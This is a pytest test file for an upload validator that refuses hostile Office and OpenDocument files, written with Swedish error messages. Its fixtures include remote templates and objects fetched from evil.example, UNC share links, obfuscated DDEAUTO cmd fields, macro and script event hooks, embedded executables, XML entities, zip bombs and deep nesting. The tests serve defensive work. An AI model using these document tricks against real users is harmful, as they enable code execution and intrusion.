"""Office documents that are made to do harm: what acts however it is written, what takes time, and what hides its words."""

import tracemalloc
from io import BytesIO
from time import monotonic
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZipFile

import pytest
from django.core.exceptions import ValidationError

from itdrift import office_parts
from itdrift.uploads import kind_of, text_in

from ..onboarding.letters.files import MAIN, OFFICE, office, open_document, packed

TOO_LARGE = "har fler eller större delar än som kan granskas"


def word(name="word/more.xml", content="<x/>"):
    return office("word/document.xml", **{name: content})


def writer(content):
    return open_document("text", **{"styles.xml": content})


def relation(said, encoding="utf-8"):
    kept = f'<?xml version="1.0" encoding="{encoding}"?><Relationships><Relationship {said}/></Relationships>'
    return word("word/_rels/settings.xml.rels", kept.encode(encoding))


UNFINISHED = {
    "content types": "[Content_Types].xml",
    "relationships": "word/_rels/a.rels",
    "a body": "word/document.xml",
    "an open document": "content.xml",
}


@pytest.mark.parametrize("name", UNFINISHED)
@pytest.mark.parametrize("tag", ["<Override ", "<w:instrText ", "<a>", "<!--", "<x "])
def test_tags_that_never_end_take_no_time(name, tag):
    parts = {"[Content_Types].xml": f'<Types><Override ContentType="{MAIN["word"]}"/></Types>'}
    content, began = packed({**parts, UNFINISHED[name]: tag * 20_000}), monotonic()
    with pytest.raises(ValidationError, match=f"går inte att läsa|{TOO_LARGE}"):
        kind_of("a.docx", content)
    assert monotonic() - began < 1


@pytest.mark.parametrize("how", [ZIP_DEFLATED, ZIP_BZIP2, ZIP_LZMA])
def test_what_is_packed_small_takes_no_room(how):
    made = BytesIO()
    with ZipFile(made, "w", how) as to:
        to.writestr("[Content_Types].xml", bytes(30_000_000))
    tracemalloc.start()
    with pytest.raises(ValidationError, match="går inte att läsa"):
        kind_of("a.docx", made.getvalue())
    assert tracemalloc.get_traced_memory()[1] < 5_000_000
    tracemalloc.stop()


ENDLESS = {
    "bytes": ("BYTES", "<x>" + " " * 200_000 + "</x>"),
    "elements": ("ELEMENTS", "<x>" + "<y/>" * 20_000 + "</x>"),
    "attributes": ("ELEMENTS", "<x>" + "<y a='' b=''/>" * 5000 + "</x>"),
    "depth": ("DEPTH", "<x>" * 4000 + "</x>" * 4000),
    "names": ("NAMES", "<x>" + "".join(f"<y{n}/>" for n in range(12_000)) + "</x>"),
    "one tag": ("TOKEN", f"<x a='{'a' * 200_000}'/>"),
    "a document inside it": ("BYTES", word(content="<x>" + " " * 200_000 + "</x>")),
}


@pytest.mark.parametrize("what", ENDLESS)
def test_what_cannot_be_looked_at_to_its_end_is_not_taken_in(what, monkeypatch):
    bound, content = ENDLESS[what]
    assert kind_of("a.docx", word(content=content)).suffixes == (".docx",)
    monkeypatch.setattr(office_parts, bound, 10_000 if bound != "DEPTH" else 1000)
    with pytest.raises(ValidationError, match=TOO_LARGE):
        kind_of("a.docx", word(content=content))


def test_documents_inside_documents_are_looked_at_so_deep():
    inner = word()
    for _ in range(5):
        inner = word("word/embeddings/a.docx", inner)
    with pytest.raises(ValidationError, match=TOO_LARGE):
        kind_of("a.docx", inner)


TEMPLATE, LINKED, DDE = "en mall som hämtas från en annan", "delar som hämtas från en annan plats", r"\(DDE\)"
MACROS, UNREADABLE = "innehåller makron", "går inte att läsa"
FROM_AFAR = 'Type="x/attachedTemplate" Target="https://evil.example/x.dotm"'
ACTS = {
    "template, single quotes": (relation(f'{FROM_AFAR} TargetMode="External"'.replace('"', "'")), TEMPLATE),
    "template, share": (
        relation('Type="x/attachedTemplate" Target="file://///evil.example/s/x.dotm" TargetMode="External"'),
        TEMPLATE,
    ),
    "template, UTF-16": (relation(FROM_AFAR, "utf-16"), TEMPLATE),
    "object from afar": (
        relation('Type="x/oleObject" Target="https://evil.example/x.html!" TargetMode="External"'),
        LINKED,
    ),
    "picture from afar": (relation('Type="x/image" Target="//evil.example/x.png" TargetMode="External"'), LINKED),
    "workbook on a share": (
        relation(r'Type="x/externalLinkPath" Target="\\evil\x.xlsx" TargetMode="External"'),
        LINKED,
    ),
    "control": (relation('Type="x/control" Target="a.xml"'), "ActiveX"),
    "DDE, single quotes": (word(content="<w:fldSimple w:instr='DDEAUTO cmd'/>"), DDE),
    "DDE, reference": (word(content="<w:instrText>&#68;DEAUTO cmd</w:instrText>"), DDE),
    "DDE, other prefix": (word(content="<q:instrText>DDEAUTO cmd</q:instrText>"), DDE),
    "DDE, spelt in numbers": (word(content="<q:instrText>QUOTE 68 68 69</q:instrText>"), DDE),
    "DDE, far in": (word(content=f"<x>{' ' * 5_100_000}<q:instrText>DDEAUTO cmd</q:instrText></x>"), DDE),
    "DDE, not called XML": (word("word/a.dat", "\n<q:instrText>DDEAUTO cmd</q:instrText>"), DDE),
    "entity": (word(content="<!DOCTYPE x [<!ENTITY d 'DDE'>]><instrText>&d;</instrText>"), UNREADABLE),
    "outer entity": (word(content="<!DOCTYPE x SYSTEM 'x.dtd'><instrText>&d;</instrText>"), UNREADABLE),
    "two of one name": (office("word/document.xml", **{"word/Document.xml": "<x/>"}), UNREADABLE),
    "macros in a document inside it": (word("word/embeddings/x.docx", word("word/vbaProject.bin", "x")), MACROS),
    "macros by the type alone": (
        word("word/embeddings/x.docm", office("word/a.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")),
        MACROS,
    ),
    "text that runs": (word("word/a.rtf", r"{\rtf1 x}"), "inbäddade objekt"),
} | {
    f"program, {suffix}": (word(f"word/media/a.{suffix}", "x"), "innehåller program")
    for suffix in ("pif", "cpl", "chm", "url", "iso", "settingcontent-ms", "wsh", "LNK")
}
OPEN_ACTS = {
    "script": ('<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$f"/>', MACROS),
    "macro": ('<x:event-listener script:macro-name="a"/>', MACROS),
    "DDE": ('<text:dde-connection-decl office:dde-application="soffice" office:automatic-update="true"/>', DDE),
    "DDE in a cell": ('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;)"/>', DDE),
    "picture from afar": ('<draw:image xlink:href="https://evil.example/x.png" xlink:actuate="onLoad"/>', LINKED),
}


@pytest.mark.parametrize("what", ACTS)
def test_what_acts_is_refused_however_it_is_written(what):
    content, why = ACTS[what]
    with pytest.raises(ValidationError, match=why):
        kind_of("a.docx", content)


@pytest.mark.parametrize("what", OPEN_ACTS)
def test_what_acts_in_an_open_document_is_refused(what):
    content, why = OPEN_ACTS[what]
    with pytest.raises(ValidationError, match=why):
        kind_of("a.odt", writer(content))


HARMLESS = {
    "a link": relation('Type="x/hyperlink" Target="https://myndighet.example" TargetMode="External"'),
    "its own template": relation(r'Type="x/attachedTemplate" Target="file:///C:\mallar\a.dotx" TargetMode="External"'),
    "a workbook beside it": relation('Type="x/externalLinkPath" Target="Budget%202026.xlsx" TargetMode="External"'),
    "a page number": word(content="<w:fldSimple w:instr=' PAGE '/>"),
    "the figures of a diagram": word("word/embeddings/a.xlsx", office("xl/workbook.xml")),
    "an empty part": word(content=""),
    "a drawing": word("word/media/a.svg", "<!DOCTYPE svg PUBLIC 'x' 'http://x/svg11.dtd'><svg/>"),
}


@pytest.mark.parametrize("what", HARMLESS)
def test_what_people_write_is_taken_in(what):
    assert kind_of("a.docx", HARMLESS[what]).suffixes == (".docx",)


OTHER_NAME = (
    f'<Types><Override PartName="/doc/main.xml" ContentType="{OFFICE}wordprocessingml.document.main+xml"/></Types>'
)
HIDDEN = {
    "a.docx": packed({"[Content_Types].xml": OTHER_NAME, "doc/main.xml": "<x><p><t>HEM</t><t>LIG</t></p></x>"}),
    "b.docx": word("docProps/core.xml", "<x><dc:title>HEMLIG</dc:title></x>"),
    "c.docx": word(content="<x><w:delText>HEMLIG</w:delText></x>"),
    "a.xlsx": office("xl/workbook.xml", **{"xl/worksheets/s.xml": "<x><oddHeader>&amp;C&amp;14HEMLIG</oddHeader></x>"}),
    "b.xlsx": office("xl/workbook.xml", **{"xl/worksheets/s.xml": "<x><firstFooter>&amp;LHEMLIG</firstFooter></x>"}),
    "c.xlsx": office("xl/workbook.xml", **{"xl/worksheets/s.xml": "<x><c><v>1</v></c><c><v>HEMLIG</v></c></x>"}),
    "a.odt": writer("<x><style:header><text:p>HEM<text:span>LIG</text:span></text:p></style:header></x>"),
}


@pytest.mark.parametrize("name", HIDDEN)
def test_words_are_read_wherever_they_stand(name):
    content = HIDDEN[name]
    assert [line for line in text_in(kind_of(name, content), content).splitlines() if line] == ["HEMLIG"]


def test_what_stands_in_two_cells_is_not_one_word():
    cells = "<x><row><c><is><t>Räka</t></is></c><c><is><t>HEMLIG</t></is></c></row></x>"
    content = office("xl/workbook.xml", **{"xl/worksheets/s.xml": cells})
    assert text_in(kind_of("a.xlsx", content), content).split() == ["Räka", "HEMLIG"]
